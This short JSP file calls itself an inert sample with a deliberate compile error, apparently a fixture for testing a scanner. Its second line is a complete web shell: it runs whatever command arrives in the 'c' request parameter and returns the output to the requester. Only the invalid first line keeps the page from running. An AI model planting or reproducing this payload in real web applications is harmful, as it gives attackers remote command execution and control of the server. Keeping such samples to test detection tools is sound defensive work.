<% shodo inert sample: deliberate compile error, this page never runs %>
<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).useDelimiter("\\A").next() %>
